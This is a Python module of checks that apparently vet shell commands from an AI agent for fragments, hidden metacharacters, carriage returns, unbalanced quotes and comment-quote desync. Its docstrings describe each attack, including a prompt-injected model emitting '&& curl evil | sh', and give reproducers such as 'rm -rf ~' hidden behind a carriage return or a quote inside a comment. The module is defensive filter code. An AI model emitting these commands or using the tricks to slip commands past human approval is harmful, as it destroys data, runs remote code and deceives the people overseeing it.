"""Checks on the shape of the command line: fragments, lines, tokens, quotes."""

from __future__ import annotations

import itertools

from regexes import regex

from ..commands.find import FIND_PATTERN_PRIMARIES
from .base import CheckInput, check
from .ids import CheckId

# Redirections may legally stand first (`<in cat`, `>out echo x`); the
# parser models them, so only operators and flags mark a fragment.
_LEADING_FRAGMENT_RE = regex(r"^\s*(?:&&|\|\||;|\||&(?!>)|-)")
_TRAILING_FRAGMENT_RE = regex(r"(?:&&|\|\||\|)\s*$")
_COMMENT_RE = regex(r"(?:^|(?<=[\s;&|()]))#[^\n]*")


@check(CheckId.INCOMPLETE_COMMANDS)
def incomplete_commands(inp: CheckInput) -> str | None:
    """A fragment, not a command: leading tab, flag or operator, a trailing
    operator, or a syntax error.

    Attack: a prompt-injected model emits ``-rf /`` or ``&& curl evil | sh``
    hoping it is appended to something else, or a syntax error that one parser
    recovers from differently than bash. Reproducer: ``\\tls``, ``&& rm x``,
    ``echo "unterminated``.
    """
    text = inp.text
    if text.startswith("\t") or text.lstrip(" ").startswith("\t"):
        return "command starts with a tab"
    if _LEADING_FRAGMENT_RE.match(text):
        return "command starts with an operator or a flag (a fragment)"
    # A trailing `&&` inside a comment (`ls # a && b`) is not an operator.
    unquoted = inp.views.fully_unquoted
    if (("|" in unquoted or "&" in unquoted)
            and _TRAILING_FRAGMENT_RE.search(_COMMENT_RE.sub("", unquoted))):
        return "command ends with an operator (incomplete)"
    for reason in inp.parse.reasons:
        if reason.startswith(("syntax error", "unexpected token")):
            return reason
    return None


_META_IN_QUOTES_RE = regex(r"'[^']*[;&|`<>][^']*'|\"[^\"]*[;&|`<>][^\"]*\"")


@check(CheckId.SHELL_METACHARACTERS)
def shell_metacharacters(inp: CheckInput) -> str | None:
    """Shell operators hidden in quoted arguments where a later consumer may
    treat them as live.

    Attack: ``find . -name "x;rm -rf ~"`` is harmless to bash, but a splitter
    that does not honour quotes (or a rule matcher working on raw text) sees
    two commands. Under the legacy splitter any quoted ``; & | ` < >`` fires;
    with tree-sitter only ``find`` name patterns do, as in the reference.
    """
    if inp.legacy:
        m = _META_IN_QUOTES_RE.search(inp.text)
        if m:
            return f"shell metacharacter inside quotes: {m.group(0)[:40]!r}"
        return None
    for argv in inp.argvs:
        if not argv or argv[0] not in ("find", "fd"):
            continue
        for flag, value in itertools.pairwise(argv):
            if flag in FIND_PATTERN_PRIMARIES and any(c in value for c in ";&|`<>"):
                return f"shell metacharacter in {flag} pattern {value[:40]!r}"
    return None


_UNQUOTED_NEWLINE_RE = regex(r"(?<!\\)\n[ \t]*\S")


@check(CheckId.NEWLINES)
def newlines(inp: CheckInput) -> str | None:
    """Carriage returns anywhere; unquoted newlines when structure is unknown.

    Attack: ``ls\\rrm -rf ~`` renders as ``rm -rf ~``… or as ``ls`` in a
    terminal that honours ``\\r``, hiding the second half from the person
    approving; some tools also split lines on ``\\r``. With tree-sitter a
    newline is just a command separator (each side is analyzed); under the
    legacy splitter an unquoted newline followed by more text fires.
    """
    if "\r" in inp.original:
        return "carriage return in command"
    if inp.legacy and _UNQUOTED_NEWLINE_RE.search(inp.views.fully_unquoted):
        return "newline separates commands (legacy parser)"
    return None


@check(CheckId.MALFORMED_TOKEN_INJECTION)
def malformed_token_injection(inp: CheckInput) -> str | None:
    """Unbalanced quotes or a dangling escape: tokens that different parsers
    will split differently.

    Attack: with an odd quote, parsers that recover differently disagree on
    what is data and what runs: ``ls "a; rm -rf ~`` is a syntax error to bash
    but a quoted argument to a lenient tokenizer, and the reverse for
    ``echo x\\``. Reproducer: ``ls "a; rm b``.
    """
    if inp.views.unterminated:
        return "unterminated quote"
    stripped = inp.text.rstrip("\n")
    if stripped.endswith("\\") and (len(stripped) - len(stripped.rstrip("\\"))) % 2 == 1:
        return "command ends with a dangling backslash"
    return None


@check(CheckId.COMMENT_QUOTE_DESYNC)
def comment_quote_desync(inp: CheckInput) -> str | None:
    """A ``#`` comment that contains a quote character.

    Attack: quote trackers that do not know comments (the reference's and
    ours) read ``# it's`` as opening a quote, so everything up to the next
    ``'`` is treated as quoted data: ``echo ok # it's\\nrm -rf ~ #'`` hides
    ``rm`` from every text-level check.
    """
    if inp.views.comment_quote_desync:
        return "comment contains a quote character (quote tracking desynchronizes)"
    return None


@check(CheckId.QUOTED_NEWLINE)
def quoted_newline(inp: CheckInput) -> str | None:
    """A newline inside quotes followed by a line starting with ``#``.

    Attack: line-based filters that drop comment lines (as the reference does
    before matching) remove a quoted line such as ``"x\\n# ; rm -rf ~"`` and
    desynchronize what is shown from what runs.
    """
    if inp.views.quoted_newline_hash:
        return "quoted newline followed by a '#' line"
    return None
